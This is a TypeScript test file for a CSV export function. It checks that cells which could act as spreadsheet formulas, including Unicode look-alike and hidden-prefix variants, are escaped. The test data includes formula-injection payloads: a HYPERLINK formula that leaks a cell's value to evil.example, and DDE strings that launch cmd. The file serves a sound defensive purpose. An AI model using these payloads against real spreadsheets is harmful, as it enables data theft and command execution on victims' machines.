import fc from "fast-check";
import { expect, test } from "vitest";
import { type Cell, csvLine } from "./export-csv";

/** The cells of a line as a reader of RFC 4180 sees them. */
function read(line: string): string[] {
  expect(line.endsWith("\r\n")).toBe(true);
  const cells: string[] = [];
  const rest = line.slice(0, -2).replace(/"((?:[^"]|"")*)"(?:,|$)/g, (_, cell: string) => {
    cells.push(cell.replaceAll('""', '"'));
    return "";
  });
  expect(rest).toBe("");
  return cells;
}
const only = (cell: Cell) => read(csvLine([cell]))[0];

test.each([
  "=1+1",
  '=HYPERLINK("https://evil.example?x="&A1,"click")',
  "+98 912 000 0000",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "|cmd",
  "%0A=1",
  "\u2212A1",
  // Behind what is stripped on the way in.
  " =1+1",
  "\u00a0=1+1",
  "\u3000=1+1",
  '"=1+1"',
  "'=1+1'",
  "“=1+1”",
  "«=1+1»",
  ' " =1+1',
  "\u200f=1+1",
  "\u200e\u202a=1+1",
  "\ufeff=1+1",
  "\u200c@x",
  // Wide and small forms.
  "＝1+1",
  "＋1",
  "－1",
  "＠x",
  "﹦1",
  "﹢1",
  "﹣1",
  "﹫x",
  "｜cmd",
  "％x",
])("%j is kept from being a formula", (text) => {
  expect(only(text)).toBe(`'${text}`);
});

test.each([
  ["\t=1", "' =1"],
  ["\r=1", "' =1"],
  ["\n=1", "' =1"],
  ["\tplain", "' plain"],
  ["\rplain", "' plain"],
  ["\u0000=1", "' =1"],
])("%j begins with a control character and is told as %j", (text, expected) => {
  expect(only(text)).toBe(expected);
});

test.each([
  "",
  "سفارش ۱۲۳",
  "ORD-1001",
  "a=b",
  "1-2",
  "09121234567",
  "603799******7893",
  'he said "yes"',
  "a, b",
  "خرید «کتاب»",
  "  spaced  ",
])("%j is told as it is", (text) => {
  expect(only(text)).toBe(text);
});

test("text stays on its line and in its cell", () => {
  expect(only('a\r\nb","c')).toBe('a b","c');
  expect(only("a\u2028b")).toBe("a b");
});

test("numbers stay numbers, also below zero", () => {
  expect(csvLine([-1_500_000n, 0n, 9_007_199_254_740_993n])).toBe(
    '"-1500000","0","9007199254740993"\r\n',
  );
});

test("times, truths and nothing have one form each", () => {
  const time = new Date("2026-11-21T10:15:30.123Z");
  expect(csvLine([time, true, false, null])).toBe(
    '"2026-11-21T10:15:30.123Z","true","false",""\r\n',
  );
});

test("whatever the text, a line has its cells, and none begins like a formula", () => {
  const cell = fc.oneof(
    fc.string({ unit: "binary", maxLength: 20 }),
    fc.string({ unit: "grapheme" }),
  );
  fc.assert(
    fc.property(fc.array(cell, { minLength: 1, maxLength: 5 }), (cells) => {
      const found = read(csvLine(cells));
      expect(found).toHaveLength(cells.length);
      for (const text of found) expect(text.trimStart().normalize("NFKC")).not.toMatch(/^[=+\-@]/);
    }),
    { numRuns: 2_000 },
  );
});
